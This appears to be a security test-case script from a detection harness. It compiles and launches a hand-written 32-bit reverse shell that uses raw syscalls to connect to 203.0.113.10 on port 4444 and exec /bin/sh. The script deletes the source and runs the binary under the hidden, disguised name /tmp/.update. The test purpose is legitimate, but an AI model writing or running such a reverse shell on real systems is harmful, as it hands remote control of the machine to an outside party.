#!/bin/sh
. /opt/case/case.sh

cat >/tmp/s.c <<'END'
static int call(int n, long a, long b, long c)
{
    int r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory");
    return r;
}
void _start(void)
{
    static struct { unsigned short family, port; unsigned address; char rest[8]; } to = { 2, 0x5c11, 0x0a7100cb, "" };
    static const char *words[] = { "/bin/sh", 0 };
    long first[] = { 2, 1, 0 };
    int fd = call(102, 1, (long)first, 0);
    long second[] = { fd, (long)&to, 16 };
    if (call(102, 3, (long)second, 0))
        call(1, 1, 0, 0);
    for (int i = 0; i < 3; i++)
        call(63, fd, i, 0);
    call(11, (long)words[0], (long)words, 0);
    call(1, 2, 0, 0);
}
END
gcc -m32 -O1 -nostdlib -static -fno-pie -no-pie -fno-stack-protector -fcf-protection=none -o /tmp/.update /tmp/s.c
rm /tmp/s.c
/tmp/.update &
wait_for /tmp/reached
took_place
